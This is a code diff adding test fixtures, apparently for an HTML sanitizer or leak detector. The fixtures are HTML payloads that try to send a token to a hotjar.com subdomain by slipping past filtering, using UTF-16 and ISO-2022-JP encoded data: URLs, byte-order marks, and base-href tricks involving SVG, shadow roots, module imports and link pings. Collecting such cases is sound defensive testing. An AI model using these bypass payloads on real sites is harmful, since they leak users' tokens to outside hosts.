@@ -13,6 +13,20 @@ _IMG: Final = f"<img src={_S}>"
 _CLICK: Final = "document.querySelector('a,area,button,summary').click()"
 
 
+def _wide(text: str) -> str:
+    """Get text in UTF-16, percent-coded, which has no place for a token."""
+    return "".join(f"%{byte:02x}" for byte in text.encode("utf-16-le"))
+
+
+#: A page or script that says where its token is, as there is none in itself.
+_BY_HASH: Final = (
+    "<script>_hjSettings=1;new Image().src='https://'+location.hash.slice(1)+"
+    "'.hotjar.com/x'</script>"
+)
+_BY_NAME: Final = "_hjSettings=1;new Image().src='https://'+token+'.hotjar.com/x'"
+_SHIFTED: Final = "%1b$B<!--%1b(B" + _IMG + "-->"
+
+
 def _coded(text: str) -> str:
     """Get a percent-coding that a token can be put into."""
     return "".join(f"%{byte:02x}" for byte in text.encode()).replace("%40%40", "@@")
@@ -323,6 +337,50 @@ PAGES: Final = (
         "a drawing with a prefix in data:",
         '<iframe src=\'data:image/svg+xml,<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:image href="https:&#47;/@@.hotjar.com/x"/></s:svg>\'></iframe>',
     ),
+    *(
+        live(
+            f"a page in data:, in UTF-16 {how}",
+            f"<iframe src='data:{page}#@@'></iframe>",
+        )
+        for how, page in [
+            ("by its charset", "text/html;charset=utf-16le," + _wide(_BY_HASH)),
+            ("by an old name", "text/html;charset=unicode," + _wide(_BY_HASH)),
+            ("by its mark", "text/html,%ff%fe" + _wide(_BY_HASH)),
+            (
+                "by its declaration",
+                "text/html," + _wide("<?xml version=1.0?>" + _BY_HASH),
+            ),
+        ]
+    ),
+    *(
+        live(
+            f"a page in data:, in ISO-2022-JP {how}",
+            f"<iframe src='data:{page}'></iframe>",
+        )
+        for how, page in [
+            ("by its charset", "text/html;charset=iso-2022-jp," + _SHIFTED),
+            ("by itself", "text/html,<meta charset=iso-2022-jp>" + _SHIFTED),
+            (
+                "by itself, late",
+                f'text/html,<meta content="{">" * 2000}"><meta charset=iso-2022-jp>'
+                + _SHIFTED,
+            ),
+        ]
+    ),
+    live(
+        "a script in data:, in UTF-16 by its charset",
+        "<script>token='@@'</script><script src='data:text/javascript;charset=utf-16le,"
+        f"{_wide(_BY_NAME)}'></script>",
+    ),
+    live(
+        "a script in data:, in UTF-16 by its mark",
+        f"<script>token='@@'</script><script src='data:,%ff%fe{_wide(_BY_NAME)}'></script>",
+    ),
+    live(
+        "a script in data:, in UTF-16 by its element",
+        "<script>token='@@'</script><script charset=utf-16le src='data:text/javascript,"
+        f"{_wide(_BY_NAME)}'></script>",
+    ),
     inert("src beside srcdoc", f"<iframe src={_X} srcdoc='<p>a'></iframe>"),
     inert(
         "an escaped page in srcdoc",
@@ -386,8 +444,57 @@ BASES: Final = (
         "a base in SVG, which preloading heeds",
         "<svg><base href=//@@.hotjar.com/><g/></svg><img src=/own.png>",
     ),
+    live(
+        "a base in SVG, before the page's own",
+        "<svg><base href=/own /></svg><base href=//@@.hotjar.com/><img src=x>",
+    ),
+    live(
+        "a base in a shadow root, before the page's own",
+        "<div><template shadowrootmode=open><base href=/own></template></div>"
+        "<base href=//@@.hotjar.com/><img src=x>",
+    ),
+    live(
+        "a base after one of no host, which preloading heeds",
+        "<base href='data:text/html,'><base href=//@@.hotjar.com/><img src=x>",
+    ),
+    live(
+        "a base after one of no good address, which preloading heeds",
+        "<base href='http://:80:80/'><base href=//@@.hotjar.com/><img src=x>",
+    ),
+    live(
+        "a base in noscript without scripts",
+        "<noscript><base href=//@@.hotjar.com/></noscript><img src=x>",
+        scripting=False,
+    ),
+    live(
+        "a picture that a script makes, by base",
+        "<base href=//@@.hotjar.com/><script>new Image().src='x'</script>",
+    ),
+    live(
+        "a module's import by base",
+        "<base href=//@@.hotjar.com/><script type=module>import './x.js'</script>",
+    ),
+    live(
+        "a module that a map leads to by base",
+        '<base href=//@@.hotjar.com/><script type=importmap>{"imports":{"a":"./x"}}'
+        '</script><script type=module>import "a"</script>',
+    ),
+    live(
+        "a picture's error by base",
+        "<base href=//@@.hotjar.com/><img src=/none.png onerror=\"this.src='x'\">",
+    ),
+    live(
+        "a ping of a link, by a base that comes later",
+        "<a ping=x href='#a'>a</a><base href=//@@.hotjar.com/>",
+        act=_CLICK,
+    ),
+    inert("a base alone", "<base href=https://@@.hotjar.com/><p>a</p><a href=x>b</a>"),
     harmless(
-        "a base alone", "<base href=https://@@.hotjar.com/><p>a</p><a href=x>b</a>"
+        "a base of others", "<base href=https://@@.example.org/><p>a</p><a href=x>b</a>"
+    ),
+    inert(
+        "a base after an empty one",
+        "<base href=''><base href=//@@.hotjar.com/><img src=x>",
     ),
     harmless(
         "an own address by an own base", "<base href=/static/><img src=@@.hotjar.com/x>"
